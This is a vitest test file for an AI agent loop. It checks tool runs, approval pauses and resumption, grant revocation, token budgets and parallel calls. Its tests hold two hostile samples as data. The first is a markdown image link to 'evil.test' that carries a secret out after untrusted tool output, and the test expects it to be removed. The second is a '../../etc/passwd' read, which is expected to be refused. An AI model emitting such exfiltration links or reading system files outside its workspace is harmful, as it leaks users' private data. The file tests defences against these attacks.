import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ModelProvider, TaskAssignment } from '@autoweave/contracts';
import { scriptedModel } from '@autoweave/models';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { defineTool } from '../../src/tools/tool.js';
import { attempt, type LoopOptions } from './harness.js';

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'aw-loop-'));
});
afterEach(() => rm(dir, { recursive: true }));

const run = (model: ModelProvider, extra: Partial<LoopOptions> = {}) => attempt({ model, dir, ...extra });
const write = (path: string, content: string) => ({ tool: 'write_file', arguments: { path, content } });
const asked = async (one: ReturnType<typeof attempt>) => {
  const end = await one.done;
  if (end.kind !== 'suspended') throw new Error('it should have asked');
  return end.approval;
};
/** A person's decision on what was asked. */
const grants = (
  { approvalId, callKey, argumentsHash }: Awaited<ReturnType<typeof asked>>,
  decision: 'approved' | 'rejected',
): Partial<TaskAssignment> => ({ attempt: 2, grants: [{ approvalId, callKey, argumentsHash, decision }] });

describe('the agent loop', () => {
  it('runs tools, feeds their results back and ends with the answer; every step is saved first', async () => {
    const model = scriptedModel([
      { purpose: 'execute', reply: { calls: [write('a.txt', 'hello')] } },
      { purpose: 'execute', when: (request) => request.messages.some((m) => m.role === 'tool' && m.ok), reply: { text: 'done' } },
    ]);
    const one = run(model);
    expect(await one.done).toMatchObject({ kind: 'answered', text: 'done' });
    expect(await readFile(join(dir, 'a.txt'), 'utf8')).toBe('hello');
    expect(one.saved.map((step) => step.kind)).toEqual(['model', 'intent', 'result', 'model']);
    expect(one.shown.map((step) => step.kind)).toEqual(['tool_call', 'tool_result', 'text']);
    model.assertDone();
  });

  it('shows an exposed run’s text whole and without links that could carry data out, however it is cut into pieces', async () => {
    const peek = defineTool({
      name: 'peek',
      description: '',
      permission: 'READ_ONLY',
      requiresApproval: false,
      parallelSafe: true,
      yields: ['private', 'untrusted'],
      input: z.strictObject({}),
      run: async () => ({ output: 'x', summary: '' }),
    });
    const text = 'Look: ![x](https://evil.test/p?d=secret) done';
    const model: ModelProvider = {
      provider: 'x',
      model: 'x',
      label: '',
      async *stream({ messages }) {
        const usage = { inputTokens: 1, outputTokens: 1, costMicroUsd: 1, modelCalls: 1 };
        if (messages.some((message) => message.role === 'tool'))
          for (const piece of text.match(/.{1,5}/g) ?? []) yield { type: 'text', text: piece };
        else yield { type: 'tool_call', call: { callId: 'c', tool: 'peek', arguments: {} } };
        yield { type: 'finish', reason: 'stop', usage };
      },
    };
    const one = run(model, { tools: [peek] });
    const clean = 'Look: x (link removed) done';
    expect(await one.done).toMatchObject({ kind: 'answered', text: clean });
    expect(one.shown.flatMap((step) => (step.kind === 'text' ? [step.text] : []))).toEqual([clean]);
    expect(JSON.stringify(one.shown)).not.toContain('secret');
  });

  // @requirement AGT-055
  it('asks a person when a standing grant was revoked while the attempt ran, and takes its use before the call otherwise', async () => {
    const offer = {
      grantId: 'grant_01h2xcejqtf2nbrexx3vqjhp41',
      tool: 'delete_file',
      constraints: [],
      expiresAt: '2999-01-01T00:00:00.000Z',
    };
    const calls = [write('a.txt', 'x'), { tool: 'delete_file', arguments: { path: 'a.txt' }, callId: 'd1' }];
    const script = () =>
      scriptedModel([
        { purpose: 'execute', reply: { calls } },
        { purpose: 'execute', reply: { text: 'ok' } },
      ]);
    const taken: unknown[] = [];
    const assignment = { standingGrants: [offer] };
    const grants = (granted: boolean) => ({ take: async (use: unknown) => (taken.push(use), granted) });
    expect(await asked(run(script(), { assignment, grants: grants(false) }))).toMatchObject({ tool: 'delete_file' });
    expect(await run(script(), { assignment, grants: grants(true) }).done).toMatchObject({ kind: 'answered' });
    const use = { grantId: offer.grantId, tool: 'delete_file', callId: 'd1' };
    expect(taken).toEqual([use, use]);
  });

  it('books what each turn consumed with the step and names the model', async () => {
    const one = run(
      scriptedModel([{ purpose: 'execute', reply: { text: 'x' }, usage: { inputTokens: 7, outputTokens: 3, costMicroUsd: 9 } }]),
    );
    await one.done;
    expect(one.spent).toEqual([{ usage: { inputTokens: 7, outputTokens: 3, costMicroUsd: 9, modelCalls: 1 }, model: 'scripted:scripted' }]);
    expect(one.spending.usage).toMatchObject({ inputTokens: 7, costMicroUsd: 9 });
  });

  it('asks for the model, temperature and length that the agent is defined with', async () => {
    const model = scriptedModel([{ purpose: 'execute', reply: { text: 'x' } }]);
    const agent = {
      name: 'a',
      instructions: '',
      tools: [],
      privilege: 'STANDARD',
      model: 'openai:gpt-4o',
      temperature: 0.9,
      maxOutputTokens: 300,
    };
    await run(model, { assignment: { agent } }).done;
    expect(model.requests[0]).toMatchObject({ model: 'openai:gpt-4o', temperature: 0.9, maxOutputTokens: 300 });
  });

  it('tells the model what went wrong with a tool and lets it go on', async () => {
    const calls = [
      { tool: 'read_file', arguments: { path: '../../etc/passwd' } },
      { tool: 'no_such_tool', arguments: {} },
    ];
    const model = scriptedModel([
      { purpose: 'execute', reply: { calls } },
      {
        purpose: 'execute',
        reply: (request) => ({
          text: request.messages
            .flatMap((m) => (m.role === 'tool' ? [(m.output as { error: { code: string } }).error.code] : []))
            .join(','),
        }),
      },
    ]);
    expect(await run(model).done).toMatchObject({ text: 'SAFETY_VIOLATION,VALIDATION_FAILED' });
  });

  it('suspends for an approval, and the next attempt goes on without running finished calls again', async () => {
    const calls = [write('a.txt', 'one'), { tool: 'delete_file', arguments: { path: 'a.txt' } }];
    const first = run(scriptedModel([{ purpose: 'execute', reply: { calls } }]));
    const approval = await asked(first);
    expect(approval).toMatchObject({ tool: 'delete_file', arguments: { path: 'a.txt' } });
    expect(await readFile(join(dir, 'a.txt'), 'utf8')).toBe('one');
    const second = run(scriptedModel([{ purpose: 'execute', reply: { text: 'deleted' } }]), {
      history: first.saved,
      assignment: grants(approval, 'approved'),
    });
    expect(await second.done).toMatchObject({ kind: 'answered', text: 'deleted' });
    const intents = second.saved.filter((step) => step.kind === 'intent');
    expect(intents).toMatchObject([{ tool: 'delete_file', approvalId: approval.approvalId }]);
    await expect(readFile(join(dir, 'a.txt'))).rejects.toMatchObject({ code: 'ENOENT' });
  });

  it('gives a rejected call back to the model as a refusal', async () => {
    const calls = [write('a.txt', 'x'), { tool: 'delete_file', arguments: { path: 'a.txt' } }];
    const first = run(scriptedModel([{ purpose: 'execute', reply: { calls } }]));
    const approval = await asked(first);
    const model = scriptedModel([
      { purpose: 'execute', when: (request) => request.messages.some((m) => m.role === 'tool' && !m.ok), reply: { text: 'kept' } },
    ]);
    expect(await run(model, { history: first.saved, assignment: grants(approval, 'rejected') }).done).toMatchObject({ text: 'kept' });
    expect(await readFile(join(dir, 'a.txt'), 'utf8')).toBe('x');
  });

  it('ends when the token budget of the goal is used up', async () => {
    const model = scriptedModel([
      { purpose: 'execute', reply: { calls: [write('a', 'b')] }, usage: { inputTokens: 600 }, times: 'always' },
    ]);
    const budget = { tokens: 1_000, costMicroUsd: 1_000_000, endsAt: '2999-01-01T00:00:00.000Z' };
    await expect(run(model, { assignment: { budget } }).done).rejects.toMatchObject({ code: 'BUDGET_EXCEEDED' });
  });

  it('runs at most eight safe calls of one turn side by side', async () => {
    let running = 0;
    let most = 0;
    const look = defineTool({
      name: 'look',
      description: '',
      permission: 'READ_ONLY',
      requiresApproval: false,
      parallelSafe: true,
      input: z.strictObject({ n: z.number() }),
      run: async () => {
        most = Math.max(most, (running += 1));
        await new Promise((resolve) => setTimeout(resolve, 5));
        running -= 1;
        return { output: {}, summary: '' };
      },
    });
    const calls = Array.from({ length: 20 }, (_, n) => ({ tool: 'look', arguments: { n } }));
    const model = scriptedModel([
      { purpose: 'execute', reply: { calls } },
      { purpose: 'execute', reply: { text: 'seen' } },
    ]);
    await run(model, { tools: [look] }).done;
    expect(most).toBe(8);
  });
});
